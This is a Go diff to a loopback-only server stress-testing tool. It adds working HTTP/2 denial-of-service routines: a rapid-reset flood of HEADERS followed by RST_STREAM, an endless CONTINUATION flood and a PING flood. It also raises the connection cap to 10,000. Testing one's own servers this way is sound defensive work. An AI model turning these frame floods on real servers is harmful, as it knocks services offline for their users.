@@ -33,7 +33,7 @@ import (
 
 // What it does is bounded, whatever its flags say.
 const (
-	connectionsMax = 1000
+	connectionsMax = 10_000
 	durationMax    = 10 * time.Minute
 )
 
@@ -42,7 +42,7 @@ type options struct {
 	key, secret   string
 	connections   int
 	streams       int
-	length        time.Duration
+	length, pause time.Duration
 }
 
 // attacks are what a stranger may try. Each runs on a connection of its own, until it is closed or
@@ -52,6 +52,9 @@ var attacks = map[string]func(options, net.Conn, *atomic.Int64){
 	"streams": streams, // HTTP/2: GET whose answers have no room
 	"slow":    slow,    // HTTP/1.1: 32 MiB announced with a key's id, a byte in 5 s
 	"idle":    idle,    // connections that say nothing
+	"resets":  resets,  // HTTP/2: GET, and RST_STREAM behind each
+	"endless": endless, // HTTP/2: HEADERS that never end, CONTINUATION after CONTINUATION
+	"pings":   pings,   // HTTP/2: PING after PING, whose answers are not read
 	"invoke":  invoke,  // no stranger: InvokeModel with 24.5 MB of text, signed with -key-id and -secret
 }
 
@@ -65,6 +68,7 @@ func main() {
 	flag.IntVar(&o.connections, "connections", 400, "connections")
 	flag.IntVar(&o.streams, "streams", 249, "streams on each")
 	flag.DurationVar(&o.length, "for", 20*time.Second, "how long")
+	flag.DurationVar(&o.pause, "pause", 100*time.Millisecond, "how long until it connects again where it was sent away")
 	flag.Parse()
 	if err := run(o, *pid, flag.Arg(0)); err != nil {
 		fmt.Fprintln(os.Stderr, "stranger:", err)
@@ -77,7 +81,7 @@ func run(o options, pid int, name string) error {
 	host, _, err := net.SplitHostPort(o.address)
 	switch {
 	case !ok:
-		return errors.New("name one of bodies, streams, slow, idle, invoke")
+		return errors.New("name one of bodies, streams, slow, idle, resets, endless, pings, invoke")
 	case err != nil:
 		return err
 	case !net.ParseIP(host).IsLoopback() || !net.ParseIP(o.from).IsLoopback():
@@ -102,7 +106,7 @@ func run(o options, pid int, name string) error {
 				_ = conn.SetDeadline(end)
 				attack(o, conn, &sent)
 				conn.Close()
-				time.Sleep(100 * time.Millisecond)
+				time.Sleep(min(o.pause, time.Until(end)))
 			}
 		})
 	}
@@ -200,8 +204,7 @@ func streams(o options, conn net.Conn, sent *atomic.Int64) { http2(o, conn, sent
 
 // http2 opens streams, as many as are allowed at once, and a new one for each that is reset.
 func http2(o options, conn net.Conn, sent *atomic.Int64, method string, flags byte, window uint32) {
-	preface := binary.BigEndian.AppendUint32([]byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x06\x04\x00\x00\x00\x00\x00\x00\x04"), window)
-	if _, err := conn.Write(preface); err != nil {
+	if !preface(conn, window) {
 		return
 	}
 	places := make(chan bool, o.streams)
@@ -227,19 +230,75 @@ func http2(o options, conn net.Conn, sent *atomic.Int64, method string, flags by
 			}
 		}
 	}()
-	block := append([]byte{0x42, byte(len(method))}, method...)
-	block = append(block, "\x44\x04/b/k\x86\x41\x01x"...)
+	block := blockOf(method)
 	for stream := uint32(1); stream < 1<<20; stream += 2 {
 		select {
 		case <-gone:
 			return
 		case <-places:
 		}
-		frame := append([]byte{0, 0, byte(len(block)), 1, 4 | flags}, binary.BigEndian.AppendUint32(nil, stream)...)
-		if _, err := conn.Write(append(frame, block...)); err != nil {
+		if _, err := conn.Write(frame(1, 4|flags, stream, block)); err != nil {
 			return
 		}
 		sent.Add(1)
 		time.Sleep(time.Millisecond)
 	}
+}
+
+// preface begins HTTP/2, and says how much each stream may be sent.
+func preface(conn net.Conn, window uint32) bool {
+	b := binary.BigEndian.AppendUint32([]byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x06\x04\x00\x00\x00\x00\x00\x00\x04"), window)
+	_, err := conn.Write(b)
+	return err == nil
+}
+
+// blockOf is the header block of a request for /b/k (RFC 7541, appendix A).
+func blockOf(method string) []byte {
+	block := append([]byte{0x42, byte(len(method))}, method...)
+	return append(block, "\x44\x04/b/k\x86\x41\x01x"...)
+}
+
+// frame is one of HTTP/2 (RFC 9113, 4.1).
+func frame(kind, flags byte, stream uint32, payload []byte) []byte {
+	n := len(payload)
+	b := binary.BigEndian.AppendUint32([]byte{byte(n >> 16), byte(n >> 8), byte(n), kind, flags}, stream)
+	return append(b, payload...)
+}
+
+// flood writes what next makes of the number of a frame, as fast as it is taken. What the server says
+// is read if read.
+func flood(conn net.Conn, sent *atomic.Int64, read bool, next func(n uint32) []byte) {
+	if !preface(conn, 65535) {
+		return
+	}
+	if read {
+		go func() { _, _ = io.Copy(io.Discard, conn) }()
+	}
+	for n := uint32(0); n < 1<<29; n++ {
+		if _, err := conn.Write(next(n)); err != nil {
+			return
+		}
+		sent.Add(1)
+	}
+}
+
+func resets(_ options, conn net.Conn, sent *atomic.Int64) {
+	block := blockOf("GET")
+	flood(conn, sent, true, func(n uint32) []byte {
+		return append(frame(1, 5, 2*n+1, block), frame(3, 0, 2*n+1, []byte{0, 0, 0, 8})...)
+	})
+}
+
+func endless(_ options, conn net.Conn, sent *atomic.Int64) {
+	more := bytes.Repeat([]byte("\x40\x01a\x01b"), 2000) // a: b, 2,000 times
+	flood(conn, sent, true, func(n uint32) []byte {
+		if n == 0 {
+			return frame(1, 0, 1, blockOf("GET"))
+		}
+		return frame(9, 0, 1, more)
+	})
+}
+
+func pings(_ options, conn net.Conn, sent *atomic.Int64) {
+	flood(conn, sent, false, func(uint32) []byte { return frame(6, 0, 0, make([]byte, 8)) })
 }
